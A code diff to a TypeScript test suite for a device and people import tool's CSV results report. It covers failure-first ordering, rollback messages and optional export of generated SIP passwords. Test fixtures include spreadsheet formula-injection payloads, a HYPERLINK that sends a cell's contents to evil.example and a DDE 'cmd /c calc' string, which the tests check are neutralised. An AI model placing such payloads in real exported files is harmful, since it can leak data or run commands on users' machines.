@@ -5,7 +5,9 @@ import { loadDraft } from '../../../common/import/load';
 import { rowLabel } from '../../../common/import/row-label';
 import { neutraliseCell, restoreCell } from '../../../common/import/formula-guard';
 import { initialStepState, rowResultsOf, type StepState } from '../../../main/import/batch-results';
-import { buildReport } from '../../../main/import/report';
+import { matchHeader } from '../../../common/import/aliases';
+import { buildReport, PERSON_REPORT_COLUMNS, REPORT_COLUMNS } from '../../../main/import/report';
+import { PEOPLE_MAPPING, peopleSpec, person } from '../../integration/import/run/people';
 import { deviceIdOf, documentOf, phone, specOf, stepOf, type RowPlan } from '../../integration/import/run/spec';
 
 const hostile = { ...phone(2), name: '=HYPERLINK("http://evil.example/?"&A1,"Click")' };
@@ -32,8 +34,12 @@ function resultsFor(spec: ReturnType<typeof specOf>): RowResult[] {
     },
   });
   settle(3, { outcome: 'skipped', id: deviceIdOf(spec, 3), error: null });
-  return rowResultsOf(spec, states);
+  return rowResultsOf(spec, states, { stopped: false });
 }
+
+/** Failures and rows not finished come first: the failed row 2 and the pending row 4, then the rest in sheet order. */
+const REPORT_ORDER = [2, 4, 0, 1, 3];
+const inSheetOrder = <T>(lines: T[]): T[] => REPORT_ORDER.map((_, row) => lines[REPORT_ORDER.indexOf(row)]!);
 
 const parse = (csv: string): string[][] => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true }).data;
 
@@ -48,9 +54,10 @@ describe('results report', () => {
     expect(csv.endsWith('\r\n')).toBe(true);
     expect(csv.replaceAll('\r\n', '')).not.toMatch(/\n/);
     expect(csv).toContain('"Réception, ""front"" desk"');
-    const [header, ...rows] = parse(csv);
+    const [header, ...lines] = parse(csv);
     expect(header).toHaveLength(9);
-    expect(rows.map((row) => row[1])).toEqual(['created', 'created', 'failed', 'skipped', 'not sent']);
+    expect(lines.map((row) => row[1])).toEqual(['failed', 'not sent', 'created', 'created', 'skipped']);
+    const rows = inSheetOrder(lines);
     expect(rows[0]![3]).toBe(deviceIdOf(spec, 0));
     // Each row names its phone as it is labelled, never by the device id alone.
     expect(rows[2]![2]).toBe(rowLabel(spec.sheetRows[2]!.name, results[2]!));
@@ -61,7 +68,7 @@ describe('results report', () => {
 
   it('neutralises every cell that a spreadsheet would run as a formula, keeping phone numbers as text', () => {
     const { csv } = buildReport(spec, results, { includePasswords: false });
-    const rows = parse(csv).slice(1);
+    const rows = inSheetOrder(parse(csv).slice(1));
     expect(rows[1]![4]).toBe(`'${hostile.name}`);
     expect(rows[2]![4]).toBe('\'@SUM(1+1)*cmd|"/c calc"!A0');
     expect(rows[3]![4]).toBe("'-2+3");
@@ -76,9 +83,9 @@ describe('results report', () => {
   });
 
   it('gives SIP passwords only when asked, then including the generated ones', () => {
-    const without = parse(buildReport(spec, results, { includePasswords: false }).csv).slice(1);
+    const without = inSheetOrder(parse(buildReport(spec, results, { includePasswords: false }).csv).slice(1));
     expect(without.map((row) => row[7])).toEqual(['', '', '', '', '']);
-    const withPasswords = parse(buildReport(spec, results, { includePasswords: true }).csv).slice(1);
+    const withPasswords = inSheetOrder(parse(buildReport(spec, results, { includePasswords: true }).csv).slice(1));
     expect(withPasswords.map((row) => row[7])).toEqual(spec.rows.map((row) => row.cells[3]));
 
     // A file without password or username columns: generated credentials of created rows are appended.
@@ -88,7 +95,8 @@ describe('results report', () => {
       mapping: spec.mapping.slice(0, 2),
       rows: spec.rows.map((row) => ({ ...row, cells: row.cells.slice(0, 2) })),
     };
-    const [header, first, , failed] = parse(buildReport(bare, results, { includePasswords: true }).csv);
+    const [header, ...lines] = parse(buildReport(bare, results, { includePasswords: true }).csv);
+    const [first, , failed] = inSheetOrder(lines);
     expect(header).toEqual(['failure_reason', 'result', 'result_phone', 'device_id', 'Name', 'MAC', 'sip_username', 'sip_password']);
     const step = stepOf(bare, 0);
     const sip = step.action === 'create' ? (step.document as ReturnType<typeof documentOf>).sip : undefined;
@@ -117,7 +125,8 @@ describe('results report', () => {
     expect(header).not.toContain('Voicemail PIN');
     expect(header).toContain('Notes');
     for (const row of rows) expect(row.join(',')).not.toMatch(/Vm\dPin/);
-    const [headerWith, firstWith] = parse(buildReport(withIgnored, results, { includePasswords: true }).csv);
+    const [headerWith, ...linesWith] = parse(buildReport(withIgnored, results, { includePasswords: true }).csv);
+    const [firstWith] = inSheetOrder(linesWith);
     expect(headerWith).toContain('Voicemail PIN');
     expect(firstWith).toContain('Vm0Pin!2024');
   });
@@ -131,6 +140,76 @@ describe('results report', () => {
     expect(draft.mapping.slice(0, 4)).toEqual([null, null, null, null]);
     expect(draft.ignoredColumns).toEqual(expect.arrayContaining(['failure_reason', 'result', 'result_phone', 'device_id']));
     // The importer takes the guard's quote off again: the cells come back exactly as the technician wrote them.
-    expect(draft.rows.map((row) => row.cells.slice(4))).toEqual(spec.rows.map((row) => row.cells));
+    expect(inSheetOrder(draft.rows.map((row) => row.cells.slice(4)))).toEqual(spec.rows.map((row) => row.cells));
+  });
+});
+
+describe('results report of people', () => {
+  const people = [person(1), person(2), person(3)];
+  const spec = peopleSpec(people);
+  const states = spec.units.map((unit) => unit.steps.map(initialStepState));
+  // Person 1 complete; person 2's phone failed and the rest was rolled back; person 3 not sent yet.
+  spec.units[0]!.steps.forEach((step, index) => {
+    if (step.action === 'create') states[0]![index] = { outcome: 'created', id: step.id, error: null };
+  });
+  const refused = {
+    message: 'The server rejected the data: mac_address: MAC address already in use.',
+    column: 'mac_address' as const,
+    fields: [],
+  };
+  states[1] = [
+    {
+      outcome: 'rolled_back',
+      id: people[1]!.ids.user,
+      error: { message: 'Rolled back (deleted) because Pdesk 20 failed.', column: null, fields: [] },
+    },
+    {
+      outcome: 'rolled_back',
+      id: people[1]!.ids.vmbox,
+      error: { message: 'Rolled back (deleted) because Pdesk 20 failed.', column: null, fields: [] },
+    },
+    { outcome: 'failed', id: null, error: refused },
+    { outcome: 'failed', id: null, error: { message: 'Not sent: Pdesk 20 failed.', column: null, fields: [] } },
+  ];
+  const results = rowResultsOf(spec, states, { stopped: true });
+
+  it('says the state of each document, failures first, and goes back into the importer as it is', () => {
+    const { csv } = buildReport(spec, results, { includePasswords: false });
+    const [header, ...lines] = parse(csv);
+    expect(header!.slice(0, 11)).toEqual([...REPORT_COLUMNS, ...PERSON_REPORT_COLUMNS]);
+    for (const column of header!.slice(0, 11)) expect(matchHeader(column), column).toBeNull();
+    expect(lines.map((line) => [line[1], ...line.slice(4, 11)])).toEqual([
+      ['failed', 'rolled back', 'rolled back', 'failed', 'failed', '', '', ''],
+      ['not sent', 'not sent', 'not sent', 'not sent', 'not sent', '', '', ''],
+      ['created', 'created', 'created', 'created', 'created', people[0]!.ids.user, people[0]!.ids.vmbox, people[0]!.ids.callflow],
+    ]);
+    expect(lines[0]![0]).toMatch(
+      /^Column "MAC": The server rejected the data: .* Rolled back \(deleted\): First2 PLast2, First2 PLast2's VMBox\.$/,
+    );
+    expect(lines[0]![3]).toBe('');
+
+    const loaded = loadDraft({ id: 'again', fileName: 'people-results.csv', bytes: new TextEncoder().encode(csv) });
+    if (!loaded.ok) throw new Error(loaded.error.message);
+    expect(loaded.value.mapping).toEqual([...Array<null>(11).fill(null), ...PEOPLE_MAPPING]);
+  });
+
+  it('gives generated user passwords and voicemail PINs only when asked, and only for what was created', () => {
+    const without = parse(buildReport(spec, results, { includePasswords: false }).csv);
+    expect(without[0]).not.toContain('user_password');
+    expect(without.flat().join(',')).not.toContain(people[0]!.password);
+    const [header, ...lines] = parse(buildReport(spec, results, { includePasswords: true }).csv);
+    expect(header!.slice(-2)).toEqual(['user_password', 'vm_pin']);
+    expect(lines.map((line) => line.slice(-2))).toEqual([
+      ['', ''],
+      ['', ''],
+      [people[0]!.password, people[0]!.pin],
+    ]);
+    const loaded = loadDraft({
+      id: 'again',
+      fileName: 'people-results.csv',
+      bytes: new TextEncoder().encode(buildReport(spec, results, { includePasswords: true }).csv),
+    });
+    if (!loaded.ok) throw new Error(loaded.error.message);
+    expect(loaded.value.mapping.slice(-2)).toEqual(['user_password', 'vm_pin']);
   });
 });
